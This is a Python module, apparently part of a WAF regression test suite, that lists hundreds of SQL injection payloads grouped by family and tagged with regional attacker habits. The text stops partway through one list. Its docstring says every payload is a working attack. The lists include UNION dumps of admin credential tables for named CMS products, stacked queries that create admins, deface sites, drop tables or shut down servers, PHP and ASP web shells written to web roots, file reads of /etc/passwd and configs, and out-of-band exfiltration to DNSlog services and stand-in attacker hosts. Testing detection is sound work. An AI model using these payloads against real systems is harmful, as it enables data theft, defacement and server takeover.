"""Blind set "hundredseventyninth": SQL and NoSQL injection the way attacker communities around the world write
and share it, with benign requests in which the same languages, scripts and syntax appear innocently.

The angle: payloads as they circulate on Chinese, Russian, Brazilian, Indonesian, Turkish, Iranian and Vietnamese
forums (and the Japanese and Taiwanese charset tricks), recalled from memory. Each community has its habits:
wide-byte quotes for PHP addslashes() on a GBK, Big5 or Shift-JIS connection (the raw lead byte swallows the
backslash), iconv to GBK after escaping, UTF-7, overlong UTF-8 and fullwidth quotes a lenient decoder or a
best-fit conversion turns back into a quote, plus signs for spaces and `--+` endings pasted straight from the URL
bar, DNSlog and phpStudy/BT-panel paths, `unhex(hex())` collation fixes and DIOS one-liners, T-SQL variables named
in the attacker's own language, comments, markers and chatter in Chinese, Cyrillic, Portuguese, Indonesian,
Turkish, Persian and Vietnamese glued around the payload, and the regional products they target (DedeCMS, PHPCMS,
Discuz!, ECShop, ThinkPHP, Empire CMS, ASP+Access sites, 1C-Bitrix, DataLife Engine, Lokomedia, NukeViet,
vBulletin, EC-CUBE, XOOPS, Gnuboard, DotNetNuke and ASP.NET portals on SQL Server). Every payload is still a
working attack on the target its comment names (MySQL/MariaDB, PostgreSQL, SQL Server, Oracle, SQLite, MS Access,
MongoDB, or the named product's own query).

Families (category sqli; one sub-family per detection title):
  libinjection-sqli, sql-tautology-boolean, sql-comment-sequence, union-select, stacked-queries,
  time-based-blind (sleep/benchmark/pg_sleep/waitfor), error-based (extractvalue/updatexml/convert/cast),
  out-of-band (load_file/into outfile/xp_dirtree/utl_http/dblink), information-schema-probing,
  mysql-comment-obfuscation, function-based-probing (substring/ascii/char/concat), sql-authentication-bypass,
  nosql-injection (Mongo operators, $where), hex-char-encoding, stored-procedure-xp-cmdshell,
  having-group-order-by-probing, like-between-in-operators

Placements: every payload is sent twice. Once to our real routes (query of /api/users, the admin search form with
its csrf_token, JSON of /api/users, a cookie, User-Agent, Referer, X-Api-Version, a parameter name, an XML body,
a multipart field, the URL path), once the way a WAF regression suite sends it (placements prefixed "rs-"): to
paths that are not our routes (/, /index.php, /get, /post, /search, /api/v1/items, /cgi-bin/test.cgi) under
arbitrary parameter names, as a query string, form body, JSON body, XML body, a raw form-typed body, or in
User-Agent, Referer, a custom header or a cookie. Wide-byte and overlong payloads are raw bytes: they go
percent-encoded byte for byte, only into the query, the form body or a parameter name (where a byte survives).
Payloads pasted as a whole URL query (`id=-1+union+select...--+`, `%df%27`, ThinkPHP's array parameters, PHP/qs
bracket operators) go as written, unquoted, into the query string or a form body; whole MongoDB documents go as
the JSON body; the ECShop referer payload goes in Referer. Non-ASCII payloads never go into headers, cookies or
the path.

Authorship and independence: written for this repository from general knowledge of each attack family, the
communities' habits as remembered, and the detection titles alone; no WAF rule, engine source, ruleset regression
test or public payload list was read. Measured once on unchanged code; deterministic (no clock, no randomness).
"""

from __future__ import annotations

from collections.abc import Iterator, Sequence
from typing import Any

from .blind_placements import BlindSet, Cycles
from .records import print_records

NAME = "hundredseventyninth"

# An entry is a payload string, or (payload, real placement, rs placement) when it only works in one kind of place.
Entry = str | tuple[str, str, str]
JB = ("json-body", "rs-json-body")

# payloads whose characters U+0080-U+00FF stand for raw bytes, and payloads pasted as a whole URL query
LATIN: set[str] = set()
RAW: set[str] = set()


def wide(payload: str) -> str:
    """A raw-byte payload: a GBK/Big5/Shift-JIS lead byte before the quote, or an overlong UTF-8 sequence."""
    if any(ord(ch) > 0xFF for ch in payload):
        raise ValueError(f"not a byte string: {payload!r}")
    LATIN.add(payload)
    return payload


def kv(payload: str, real: str = "query", rs: str = "rs-query") -> Entry:
    """A payload pasted as the attacker wrote it in the URL bar or the form body (`+` for spaces, `%xx` kept)."""
    RAW.add(payload)
    return (payload, real, rs)


# ----------------------------------------------------------------------------------------------------------------
# libinjection-sqli: short token streams that break out of a string or number and turn the WHERE clause around
LIBINJECTION: list[Entry] = [
    # Chinese forums (宽字节注入), PHP addslashes() on a GBK connection, MySQL: %df/%bf/%d5 + the added
    # backslash become one GBK character and the quote is free (DedeCMS/PHPCMS era sites)
    wide("1\xdf' or 1=1#"),
    wide("admin\xbf' or 1=1 limit 1#"),
    wide("1\xd5' or '1'='1"),
    wide("-1\xdf' or 1=1 order by 1 desc#"),
    # the same, pasted from the URL bar the way the forum posts show it (MySQL GBK, PHP magic_quotes_gpc)
    kv("id=1%df%27%20or%201=1%23"),
    kv("id=1%df' or 1=1--+", "form", "rs-raw-body"),
    # Chinese, addslashes() then iconv('utf-8','gbk') on a latin1 connection: 錦 is 0xe5 0x5c in GBK and its
    # 0x5c pairs with the added backslash (MySQL, Discuz!/UCenter era)
    "錦' or 1=1#",
    "錦' or 1=1 limit 1-- -",
    # Taiwan/Hong Kong Big5 forums: 功 (0xa55c) and 許 (0xb35c) end in a backslash byte (PHP + MySQL big5)
    wide("\xa5' or 1=1#"),
    wide("\xb3' or ''='"),
    # Japanese Shift-JIS dame-moji: ソ (0x835c) and 表 (0x955c), sjis connection, addslashes (EC-CUBE 2 era)
    wide("\x83' or 1=1#"),
    wide("\x95' or 'a'='a"),
    # Chinese chatter glued in front of the quote (search boxes of DedeCMS/Discuz!, MySQL)
    "测试' or 1=1#",
    "搜索' or '1'='1'-- -",
    # Russian forum habit: Cyrillic chatter after the MySQL comment, string and numeric contexts (DLE, Bitrix)
    "1' or 1=1 -- бугага",
    "поиск' or '1'='1' -- -",
    # Brazilian: Portuguese after the comment, the search and login boxes of PHP + MySQL portals
    "ação' or 1=1-- invadido",
    "1' or 'x'='x' -- senha",
    # Indonesian: Lokomedia/Balitbang school sites, berita.php?id= style, MySQL
    "1' or 1=1 -- coba",
    "' or ''=' -- tembus",
    # Turkish: haber.php?id= sites on MySQL, Turkish chatter in and after the payload
    "çözüm' or 1=1#",
    "1'or'ü'='ü",
    # Iranian: Persian text around the quote (WordPress Parsi search, MySQL)
    "جستجو' or 1=1-- -",
    "1' or 1=1 -- تست",
    # Vietnamese: tìm kiếm boxes of NukeViet and vBulletin sites, MySQL
    "tìm kiếm' or 1=1#",
    "1' or '1'='1' -- đăng nhập",
    # Japanese fullwidth-space habit: IME types U+3000, MySQL accepts it only as part of a string, so the
    # payload keeps ASCII spaces and the chatter stays in the comment (EC-CUBE search, MySQL)
    "検索' or 1=1 #　テスト",
]

# sql-tautology/boolean: the always-true (or probe-true) condition that turns the WHERE clause
TAUTOLOGY: list[Entry] = [
    # Chinese 判断注入 habit: and 1=1 / and 1=2 on a numeric id, then the string form (MySQL, ASP+Access)
    "1 and 1=1",
    "1 and 1=2",
    "1' and '1'='1",
    "1' and '1'='2",
    "1 aNd 2>1 -- 判断",
    wide("1\xdf' and 1=1#"),
    wide("1\xdf' and 1=2#"),
    # Chinese, ASP+Access (动易/新云 style news.asp?id=): Access needs no comment on a numeric id
    "1 and 1=1 and 2=2",
    # Russian: PostgreSQL booleans and Cyrillic literals compared with themselves (1C-Bitrix on Postgres)
    "1 or true",
    "1' or 'а'='а",
    "1' or 'да'='да'--",
    "1 or 2>1-- -",
    "1' or not false#",
    # Brazilian: Portuguese literals, MySQL and SQL Server (noticia.asp?id= gov portals)
    "1' or 'sim'='sim",
    "1' or 'a'='a'--",
    "1 or 1=1 -- noticia",
    # Indonesian: MySQL, Indonesian words as the literal
    "1' or 'benar'='benar",
    "1' and 'ya'='ya'-- -",
    "1 || 1=1",
    # Turkish: MySQL and SQL Server (urun.asp?id= shops)
    "1' or 'evet'='evet",
    "1 or 1=1 -- doğru",
    "' or 1=1 and 'ş'='ş",
    # Iranian: Persian literals, MySQL and SQL Server (ASP.NET portals)
    "1' or 'آره'='آره",
    "1' or N'ایران'=N'ایران'--",
    # Vietnamese: MySQL
    "1' or 'đúng'='đúng",
    "' or 1=1 or 'a'='b",
    "1 && 1=1",
    "1 xor 1=2",
    # Oracle (Russian and Brazilian banks), the probe against dual
    "1' or 1=(select 1 from dual)--",
]

# sql-comment-sequence: comments that cut off the rest of the query
COMMENT: list[Entry] = [
    # Chinese: the rest of the query commented, Chinese notes inside the comment (MySQL)
    "admin'-- 管理员",
    "admin'#绕过",
    "admin'/*中文注释*/#",
    "1'/*注入*/or/*测试*/1=1#",
    # Chinese, PostgreSQL: nested comments must balance
    "admin'/* 注释 /* 嵌套 */ */--",
    # Russian: MySQL and PostgreSQL comments, Cyrillic inside
    "admin'-- админ",
    "admin'/* обход */-- -",
    "1';-- взлом",
    "1'/*комментарий*/or/**/1=1-- -",
    # Brazilian: SQL Server and MySQL login forms
    "admin'-- senha",
    "admin')-- ",
    "admin'#acesso",
    "admin';--",
    # Indonesian: MySQL
    "admin'-- masuk",
    "admin' #bypass login",
    "1';-- tembus",
    # Turkish: MySQL and SQL Server
    "yönetici'-- ",
    "admin'/*Türk*/-- -",
    "admin')/*Ayyıldız*/#",
    # Iranian: MySQL, Persian inside the comment
    "مدیر'--",
    "admin'-- ورود",
    "1'/*نفوذ*/#",
    # Vietnamese: MySQL
    "quantri'-- ",
    "admin'-- đăng nhập",
    "admin')#thử",
    # Oracle and SQLite: '--' is the only line comment
    "admin'-- oracle",
    "1' or 1=1--",
    # MySQL, the comment left open at the end of the input
    "admin' or 1=1/*",
]

# union-select: read the credential tables of each region's products through the visible columns
UNION: list[Entry] = [
    # Chinese products, MySQL: DedeCMS, PHPCMS v9, Discuz!/UCenter, ECShop, Empire CMS (帝国)
    "-1 union select 1,2,concat(userid,0x3a,pwd),4 from dede_admin#",
    "-1' union select 1,concat(username,0x7c,password,0x7c,encrypt),3 from v9_admin#",
    "-1 union select 1,concat(username,0x3a,password,0x3a,salt),3 from pre_ucenter_members#",
    "-1 union select 1,user_name,password,4 from ecs_admin_user#",
    "-1 union select 1,username,password,salt from phome_enewsuser#",
    "-1 union select 1,user() as 用户,database() as 数据库#",
    wide("-1\xdf' union select 1,group_concat(table_name),3 from information_schema.tables "
         "where table_schema=database()#"),
    # Chinese, ASP+Access sites: union against the admin table the tools guess (Access)
    "1 union select 1,username,password,4,5 from admin",
    # Russian, plus signs pasted from the URL bar: 1C-Bitrix, DataLife Engine, Joomla (MySQL)
    kv("id=-1+union+select+1,concat_ws(0x3a,LOGIN,PASSWORD),3+from+b_user--+"),
    "-1 union select 1,concat_ws(0x3a,name,password,email),3 from dle_users -- -",
    "-1 union select 1,concat(username,0x3a,password),3 from jos_users-- -",
    "-1 union select 1,'хакер',version()-- -",
    # Russian, PostgreSQL
    "-1 union select null,usename||':'||passwd,null from pg_shadow--",
    # Brazilian: SQL Server and MySQL, Portuguese table and column names
    "-1 union select 1,@@version,db_name(),4--",
    "-1 union all select null,login+':'+senha,null from usuarios--",
    "-1' union select 1,concat(usuario,0x3a,senha),3 from usuarios#",
    # Indonesian: Lokomedia (MySQL), DIOS one-liner dumping every table and column at once
    "-1 union select 1,2,concat(username,0x3a,password),4,5 from users-- -",
    "-1 union select 1,(select (@a) from (select(@a:=0x00),(select (@a) from (information_schema.columns) "
    "where (@a) in (@a:=concat(@a,table_name,0x3a,column_name,0x3c62723e))))x),3-- -",
    "-1' union select 1,concat(0x3c62723e,'Tersakiti',0x3a,user()),3-- -",
    # Turkish: SQL Server (ASP shops) and MySQL, PHP-Fusion
    "-1 union select 1,kullanici_adi,sifre,4 from yonetici--",
    "-1 union select 1,concat(kullanici,0x3a,sifre),3 from uyeler#",
    "-1 union select 1,user_name,user_password,4 from fusion_users#",
    # Iranian: WordPress Parsi (MySQL), DotNetNuke (SQL Server)
    "-1 union select 1,user_login,user_pass,4 from wp_users -- ایران",
    "-1 union select null,Username,null from Users--",
    # Vietnamese: NukeViet, vBulletin, XenForo (MySQL)
    "-1 union select 1,concat(username,0x3a,password),3 from nv4_users#",
    "-1 union select 1,concat(username,0x3a,password,0x3a,salt),3 from user#",
    "-1 union select 1,concat(user_id,0x3a,data),3 from xf_user_authenticate#",
    # Japanese EC-CUBE (PostgreSQL), XOOPS (MySQL); Korean Gnuboard (MySQL)
    "-1 union select null,login_id||':'||password,null from dtb_member--",
    "-1 union select 1,uname,pass,4 from xoops_users#",
    "-1 union select 1,mb_id,mb_password,4 from g5_member#",
]

# stacked-queries: a second statement after a semicolon
STACKED: list[Entry] = [
    # Chinese, SQL Server (ASP.NET sites): add an admin with md5('123456'), the forums' favourite password
    "1;insert into admin(username,password) values('黑客','e10adc3949ba59abbe56e057f20f883e')--",
    # Chinese, MySQL multi-statement (PDO): reset the DedeCMS admin to 'admin' (its 20-character md5 slice)
    "1;update dede_admin set pwd='f297a57a5a743894a0e4' where userid='admin'#",
    # Chinese, MySQL: log to a PHP file under phpStudy's web root through general_log
    "1;set global general_log='on';set global general_log_file='D:/phpStudy/WWW/log.php';"
    "select '<?php eval($_POST[1]);?>'#",
    # Russian, PostgreSQL: Cyrillic identifiers are legal unquoted
    "1; create table взлом(t text); copy взлом from program 'id'--",
    "1; update users set role='admin' where login='хакер'--",
    "1; alter user postgres with password 'пароль123'--",
    # Brazilian, SQL Server defacement of a news portal and a new login
    "1;update noticias set titulo='Hackeado por BR'--",
    "';insert into usuarios(login,senha) values('invasor','123')--",
    "1;drop table logs_acesso--",
    # Indonesian, MySQL (PDO emulated prepares) and SQL Server
    "1;update berita set judul='Hacked by Anon Indonesia'--",
    "1;insert into users(username,password,level) values('tamu',md5('tamu'),'admin')#",
    "1;update users set password=md5('jancok') where username='admin'#",
    # Turkish, SQL Server: promote a member, rename the site title
    "1;update uyeler set yetki=1 where kullanici='misafir'--",
    "1;update ayarlar set site_baslik='Türk Hack Team' where id=1--",
    "';declare @k varchar(99);set @k='select name from sys.tables';exec(@k)--",
    # Iranian, SQL Server: DotNetNuke superuser, a Persian row
    "1;update Users set IsSuperUser=1 where Username='test'--",
    "';insert into tbl_users(name,pass) values(N'نفوذ','123')--",
    # Vietnamese: NukeViet admin level, vBulletin admin group 6 (MySQL multi-statement)
    "1;update nv4_authors set lev=1 where admin_id=2#",
    "';update user set usergroupid=6 where username='khach'--",
    # Japanese, PostgreSQL: EC-CUBE member authority
    "1;update dtb_member set authority=0 where login_id='guest'--",
    # Oracle: PL/SQL injection (anonymous block sink)
    "1';begin execute immediate 'grant dba to scott'; end;--",
    # SQLite: attach a new file under the web root and write PHP into it
    "1'; attach database '/var/www/html/测试.php' as x; create table x.t(c text); "
    "insert into x.t values('<?php system($_GET[\"c\"]);?>');--",
    # MySQL, prepared statement from hex (Chinese bypass habit, select hidden in hex)
    "1;set @s=0x73656c65637420404076657273696f6e;prepare a from @s;execute a;#",
    # MySQL, rename the table the page prints (select banned)
    "1';rename table users to users_bak;rename table admin to users;#",
    # SQL Server, shutdown (Brazilian and Turkish defacer habit)
    "1;shutdown with nowait--",
    # PostgreSQL, Russian translit names
    "1;insert into polzovateli(login,parol) values('vzlom','123')--",
    # Korean Gnuboard (MySQL): raise a member to level 10
    "1;update g5_member set mb_level=10 where mb_id='guest'#",
]

# time-based-blind: no output at all, the response time is the oracle
TIME: list[Entry] = [
    # Chinese 延时盲注, MySQL
    "1' and sleep(5)#",
    "1 and if(length(database())>5,sleep(5),1)",
    "1' and if(ascii(substr(database(),1,1))>100,sleep(3),0)-- 延时",
    "1' and (select*from(select(sleep(5)))a)-- -",
    wide("1\xdf' and sleep(5)#"),
    "1 and benchmark(5000000,md5('测试'))",
    "'xor(if(now()=sysdate(),sleep(5),0))xor'",
    # Russian, PostgreSQL
    "1;select pg_sleep(5)--",
    "1' and 1=(select 1 from pg_sleep(5))--",
    "1 and 1=(case when (select current_user)='postgres' then (select 1 from pg_sleep(5)) else 1 end)--",
    # Russian, MySQL with Cyrillic chatter
    "1' or sleep(5)-- взлом",
    # Brazilian, SQL Server
    "1';waitfor delay '0:0:5'--",
    "1;if (select count(*) from usuarios)>0 waitfor delay '0:0:5'--",
    "1);waitfor delay '00:00:05'--",
    # Indonesian, MySQL
    "1' and sleep(5) and 'a'='a",
    "1' RLIKE SLEEP(5)-- -",
    "1' or if(1=1,sleep(5),0)-- coba",
    # Turkish, SQL Server
    "1;WAITFOR DELAY '00:00:05'-- gecikme",
    "1';if(db_name()='haber') waitfor delay '0:0:5'--",
    # Iranian, MySQL and SQL Server
    "1' and sleep(5)-- تاخیر",
    "1';declare @t varchar(9)='0:0:5';waitfor delay @t--",
    # Vietnamese, MySQL
    "1' and benchmark(10000000,sha1(1))-- chậm",
    "1 and (select 1 from (select sleep(5))x)-- thử",
    # Oracle (Russian and Brazilian banks)
    "1' and 1=dbms_pipe.receive_message('RDS',5)--",
    "1' and 1=dbms_pipe.receive_message(chr(65),5)--",
    # SQLite: randomblob makes the CPU work
    "1' and 1=like('ABCDEFG',upper(hex(randomblob(100000000))))--",
    # Japanese EC-CUBE, PostgreSQL
    "1';select case when (select count(*) from dtb_member)>0 then pg_sleep(5) end--",
    # MySQL, the polyglot that runs in any quote context
    "sleep(5)#'+sleep(5)+'\"+sleep(5)+\"",
]

# error-based: the error message carries the data back
ERROR: list[Entry] = [
    # Chinese 报错注入 favourites, MySQL
    "1' and updatexml(1,concat(0x7e,database(),0x7e),1)#",
    "1' and extractvalue(1,concat(0x7e,(select user()),0x7e))#",
    "1 and (select 1 from (select count(*),concat(user(),floor(rand(0)*2))x from information_schema.tables "
    "group by x)a)",
    wide("1\xdf' and updatexml(1,concat(0x7e,(select group_concat(userid,0x3a,pwd) from dede_admin)),1)#"),
    "1' and updatexml(1,concat(0x7e,'爆错',user()),1)#",
    # Chinese, ThinkPHP 5.0 array parameters and ThinkPHP 3.2 exp expression (MySQL)
    kv("ids[0,updatexml(0,concat(0xa,user()),0)]=1"),
    kv("id[0]=exp&id[1]==1 and updatexml(1,concat(0x7e,user(),0x7e),1)"),
    kv("username[0]=inc&username[1]=updatexml(1,concat(0x7e,user(),0x7e),1)&username[2]=1", "form", "rs-form"),
    # Chinese, ECShop 2.x user.php: the Referer is unserialized and its num goes into LIMIT (MySQL)
    ('554fcae493e564ee0dc75bdf2ebf94caads|a:2:{s:3:"num";s:72:"0,1 procedure analyse(extractvalue(rand(),'
     'concat(0x7e,version())),1)-- -";s:2:"id";i:1;}', "header:Referer", "rs-header:Referer"),
    # Russian: PostgreSQL casts, MySQL against 1C-Bitrix
    "1' and 1=cast((select version()) as int)--",
    "1 and 1=cast(current_user||'~хак' as int)--",
    "' and 1=(select cast(string_agg(usename,',') as int) from pg_user)--",
    "1 and extractvalue(0x0a,concat(0x0a,(select concat_ws(0x3a,LOGIN,PASSWORD) from b_user limit 0,1)))",
    # Brazilian, SQL Server conversion errors
    "1 and 1=convert(int,@@version)--",
    "1' and 1=convert(int,(select top 1 senha from usuarios))--",
    "1 and 1=cast(db_name() as int)--",
    # Indonesian, MySQL
    "1 and extractvalue(1,concat(0x5c,(select table_name from information_schema.tables "
    "where table_schema=database() limit 0,1)))-- -",
    "1' and updatexml(null,concat(0x3a,'Indonesia',0x3a,version()),null)-- -",
    # Turkish, SQL Server
    "1 and 1=convert(int,(select top 1 sifre from yonetici))--",
    "1' and 1=(select top 1 kullanici_adi from uyeler)--",
    # Iranian: SQL Server (ASP.NET membership), MySQL 5.5 exp() overflow
    "1 and 1=convert(int,(select top 1 Password from aspnet_Membership))--",
    "1' and exp(~(select * from (select user())x))-- -",
    # Vietnamese, MySQL: NukeViet, and the MySQL 5.5 geometry error
    "1 and updatexml(1,concat(0x7e,(select concat(username,0x3a,password) from nv4_users limit 1)),1)",
    "1' and geometrycollection((select * from(select * from(select user())a)b))-- -",
    # Oracle
    "1' and 1=ctxsys.drithsx.sn(1,(select user from dual))--",
    "1' and 1=utl_inaddr.get_host_name((select banner from v$version where rownum=1))--",
    # Japanese EC-CUBE, PostgreSQL
    "1' and 1=cast((select login_id||':'||password from dtb_member limit 1) as int)--",
]

# out-of-band: push the data to a host we control, or write/read files
OOB: list[Entry] = [
    # Chinese DNSlog habit (ceye.io / dnslog.cn), MySQL on Windows: UNC path through DNS
    "1' and load_file(concat('\\\\\\\\',(select database()),'.abc123.ceye.io\\\\a'))#",
    "1 and load_file(concat('//',user(),'.8ab3cd.dnslog.cn/x'))",
    # Chinese, MySQL: one-line web shell (一句话) into phpStudy and BT panel (宝塔) web roots
    "-1 union select 1,'<?php @eval($_POST[\"cmd\"]);?>',3 into outfile 'D:/phpStudy/WWW/1.php'#",
    "1' into outfile '/www/wwwroot/default/一句话.php' lines terminated by "
    "0x3c3f706870206576616c28245f504f53545b615d293b3f3e#",
    "-1 union select 1,'<?php @eval($_POST[x]);?>',3 into dumpfile 'C:/phpstudy_pro/WWW/x.php'#",
    # Russian, PostgreSQL: dblink, COPY TO PROGRAM with DNS, file reads
    "1' and (select dblink_connect('host='||current_user||'.oob.example.ru user=a dbname=b'))='OK'--",
    "1;do $$begin execute 'copy (select 1) to program ''nslookup '||current_user||'.oob.example.ru'''; end$$--",
    "1 union select null,pg_read_file('/etc/passwd'),null--",
    # Russian, Oracle: HTTP and XXE from the database
    "1' and utl_http.request('http://oob.example.ru/'||(select user from dual)) is not null--",
    "1' and (select extractvalue(xmltype('<?xml version=\"1.0\"?><!DOCTYPE r [<!ENTITY % x SYSTEM "
    "\"http://'||(select user from dual)||'.oob.example.ru/\">%x;]>'),'/l') from dual) is not null--",
    # Brazilian, SQL Server: xp_dirtree / xp_fileexist make the server authenticate to our SMB host
    "1;exec master..xp_dirtree '\\\\atacante.com.br\\share'--",
    "1;declare @q varchar(99);set @q='\\\\'+(select top 1 senha from usuarios)+'.oob.com.br\\a';"
    "exec master..xp_dirtree @q--",
    "1;exec master..xp_fileexist '\\\\192.0.2.10\\compartilhado\\x'--",
    # Indonesian: MySQL file read and web shell into the Lokomedia upload folder
    "1' union select 1,load_file(0x2f6574632f706173737764),3-- -",
    "1 union select 1,load_file('/etc/passwd'),3-- -",
    "1' union select 1,'<?php system($_GET[\"cmd\"]);?>',3 into outfile "
    "'/home/lokomedia/public_html/upload/sh3ll.php'-- -",
    # Turkish, SQL Server: xp_subdirs by a variable, OPENROWSET to our server
    "1';declare @y varchar(200);select @y='\\\\'+db_name()+'.dns.example.com.tr\\x';exec xp_subdirs @y--",
    "1;select * from openrowset('SQLOLEDB','server=oob.example.com.tr;uid=sa;pwd=x','select 1')--",
    # Iranian: MySQL on Windows reading web.config, SQL Server UNC
    "1' union select 1,load_file('C:\\\\inetpub\\\\wwwroot\\\\web.config'),3-- -",
    "1;exec master.dbo.xp_dirtree '\\\\oob.example.ir\\a'--",
    # Vietnamese: NukeViet config read, web shell through fields terminated by (MySQL)
    "1 union select 1,load_file('/var/www/nukeviet/config.php'),3#",
    "1' into outfile '/var/www/html/uploads/thu.php' fields terminated by '<?php passthru($_GET[c]);?>'-- -",
    "1' and utl_inaddr.get_host_address((select user from dual)||'.oob.example.vn') is not null--",
    # Japanese EC-CUBE, PostgreSQL: copy the members to a readable file
    "1';copy (select login_id||':'||password from dtb_member) to '/var/www/html/html/user_data/a.txt'--",
    # Chinese, SQL Server: backup a log into the web root (差异备份 getshell)
    "1;alter database web set recovery full;create table cmd(a image);backup log web to disk='c:\\b.bak'"
    " with init;insert into cmd(a) values(0x3c25657865637574652872657175657374282261222929253e);"
    "backup log web to disk='c:\\inetpub\\wwwroot\\x.asp'--",
    # Korean Gnuboard on Windows (MySQL): DNS through load_file
    "1 and load_file(concat(0x5c5c5c5c,(select mb_password from g5_member limit 1),0x2e6f6f622e6b725c5c61))",
]

# information-schema/catalog probing: find the tables and columns
CATALOG: list[Entry] = [
    # Chinese 爆库/爆表/爆字段, MySQL
    "-1 union select 1,group_concat(schema_name),3 from information_schema.schemata#",
    "-1 union select 1,group_concat(table_name),3 from information_schema.tables where table_schema=database()#",
    "-1 union select 1,group_concat(column_name),3 from information_schema.columns "
    "where table_name=0x646564655f61646d696e#",
    "1' and (select count(*) from information_schema.tables where table_schema=database() "
    "and table_name like '%admin%')>0#",
    # Chinese, ASP+Access (啊D / 明小子 tools guess tables and columns)
    "1 and exists(select * from admin)",
    "1 and exists (select username from admin)",
    "1 and (select count(*) from msysobjects)>0",
    # Russian: MySQL, innodb statistics when information_schema is filtered, PostgreSQL catalogs
    "-1 union select 1,table_name,3 from information_schema.tables where table_schema=database() limit 5,1-- -",
    "-1 union select 1,group_concat(table_name),3 from mysql.innodb_table_stats where database_name=database()#",
    "-1 union select null,string_agg(tablename,','),null from pg_tables where schemaname='public'--",
    "-1 union select null,string_agg(column_name,','),null from information_schema.columns "
    "where table_name='b_user'--",
    # Brazilian, SQL Server system tables
    "-1 union select 1,name,3 from sysobjects where xtype='U'--",
    "-1 union select 1,table_name,3 from information_schema.tables where table_name like '%usuario%'--",
    "1 and (select top 1 name from syscolumns where id=object_id('usuarios'))>0--",
    # Indonesian, MySQL
    "-1 union select 1,group_concat(column_name),3 from information_schema.columns where table_name=0x7573657273-- -",
    "1' and (select count(table_name) from information_schema.tables where table_schema=database())>10-- -",
    # Turkish, SQL Server
    "-1 union select 1,name,3 from master..sysdatabases--",
    "-1 union select 1,column_name,3 from information_schema.columns where table_name='yonetici'--",
    # Iranian, SQL Server 2017+
    "-1 union select 1,name,3 from sys.tables--",
    "-1 union select 1,string_agg(name,','),3 from sys.databases--",
    # Vietnamese, MySQL: NukeViet and vBulletin tables
    "-1 union select 1,group_concat(table_name),3 from information_schema.tables where table_name like 'nv4%'#",
    "1' and (select count(*) from information_schema.columns where table_name='vb_user')>0-- -",
    # Oracle
    "' union select null,owner||'.'||table_name from all_tables--",
    "' union select null,column_name from all_tab_columns where table_name='USUARIOS'--",
    # SQLite
    "-1 union select 1,group_concat(name),3 from sqlite_master where type='table'--",
    "-1 union select 1,sql,3 from sqlite_master--",
    # Japanese EC-CUBE, PostgreSQL
    "-1 union select null,string_agg(table_name,','),null from information_schema.tables "
    "where table_name like 'dtb_%'--",
    # Chinese, MySQL 5.7 sys schema
    "-1 union select 1,group_concat(table_name),3 from sys.schema_table_statistics where table_schema=database()#",
]

# mysql-comment-obfuscation: MySQL versioned comments and comment-splitting against keyword filters
MYCOMMENT: list[Entry] = [
    # Chinese: the 安全狗 (SafeDog) and D盾 bypass habits, MySQL versioned comments
    "-1 /*!50000union*/ /*!50000select*/ 1,database(),3#",
    "1 union/*!88888xx*/select 1,user(),3#",
    "-1/*!12345union*//*!12345select*/1,2,3#",
    "-1 union/*中文注释*/select 1,2,3#",
    "-1 union#测试\nselect 1,user(),3",
    "-1 union-- 绕过\nselect 1,2,3",
    "1'/*!and*/1=1#",
    "1 /*!50000and*/ /*!50000extractvalue*/(1,concat(0x7e,user()))",
    kv("id=-1 union%23%e6%b5%8b%0aselect 1,user(),3"),
    # Russian: plus signs and versioned comments from the URL bar, Cyrillic inside comments
    kv("id=-1+/*!union*/+/*!select*/+1,2,3--+"),
    "1/*хак*/union/*хак*/select/*хак*/1,2,3-- -",
    "-1 /*!00000union*/ /*!00000select*/ 1,version(),3-- -",
    # Brazilian
    "-1/*invasao*/union/*invasao*/select/**/1,2,3#",
    "1'/*!or*/'a'='a'#",
    # Indonesian: mixed case inside versioned comments, percent-encoded letters
    "-1/*!50000UnIoN*/ /*!50000SeLeCt*/ 1,2,3-- -",
    kv("id=-1 /*!50000%55nIoN*/ /*!50000%53eLeCt*/ 1,2,3--+"),
    "-1 /*!12345UNION SELECT*/ 1,group_concat(table_name),3 from information_schema.tables-- -",
    # Turkish
    "-1/**//*!12345UNION*//**//*!12345SELECT*//**/1,2,3-- -",
    "-1/*Türk*/union/*Türk*/select 1,2,3#",
    # Iranian
    "-1 /*!union*/ all /*!select*/ 1,2,3 -- ایران",
    "1'/*!12345or*/'1'='1",
    # Vietnamese
    "-1 /*!40000union*/ /*!40000select*/ 1,concat(username,0x3a,password),3 from nv4_users#",
    "-1 union/*thử*/all/*thử*/select 1,2,3#",
    # MySQL: the function name hidden in a versioned comment, spaces replaced by comments
    "1 and /*!sleep*/(5)",
    "1/**/and/**/updatexml(1,/*!concat*/(0x7e,user()),1)",
    "-1/*!union*//*!all*//*!select*/1,2,3/*!from*/dual#",
    # MySQL, HTTP parameter pollution joined with ',' by the framework, comments hide the join
    kv("id=-1/*&id=*/union/*&id=*/select 1,2,3--+"),
]

# function-based-probing: extract data one character at a time with string functions
FUNCTION: list[Entry] = [
    # Chinese 布尔盲注, MySQL
    "1' and ascii(substr(database(),1,1))>100#",
    "1 and ord(mid(user(),1,1))=114",
    "1' and length(database())=8#",
    "1' and substr((select pwd from dede_admin limit 1),1,1)='f'#",
    "1' and hex(substr(user(),1,1))=72#",
    "1 and ascii(substring((select concat(username,0x3a,password) from v9_admin limit 0,1),1,1))>64",
    wide("1\xdf' and ascii(substr((select group_concat(table_name) from information_schema.tables "
         "where table_schema=database()),1,1))>97#"),
    "1' and substr((select title from 文章 limit 1),1,1)='中'#",
    # Chinese, ASP+Access: top 1, len, mid, asc
    "1 and (select top 1 len(password) from admin)>15",
    "1 and (select top 1 asc(mid(username,1,1)) from admin)=97",
    # Russian: PostgreSQL and MySQL (1C-Bitrix)
    "1 and ascii(substr(current_database(),1,1))>100--",
    "1' and substr((select passwd from pg_shadow limit 1),1,3)='md5'--",
    "1 and length(current_user)>3--",
    "1' and ord(mid((select LOGIN from b_user limit 1),1,1))>96-- -",
    # Brazilian, SQL Server
    "1 and ascii(substring((select top 1 senha from usuarios),1,1))>50--",
    "1 and len(db_name())>5--",
    "1' and unicode(substring(@@version,1,1))=77--",
    # Indonesian, MySQL
    "1' and mid(version(),1,1)=5-- -",
    "1 and ascii(substring((select concat(username,password) from users limit 0,1),1,1))>100-- -",
    # Turkish, SQL Server (Turkish letters through N'' and unicode())
    "1 and substring((select top 1 kullanici_adi from yonetici),1,1)='a'--",
    "1' and substring(db_name(),1,1)=N'ş'--",
    # Iranian: MySQL (WordPress Parsi), SQL Server with Persian code points (1605 is م)
    "1' and ascii(mid((select user_pass from wp_users limit 1),1,1))>36-- -",
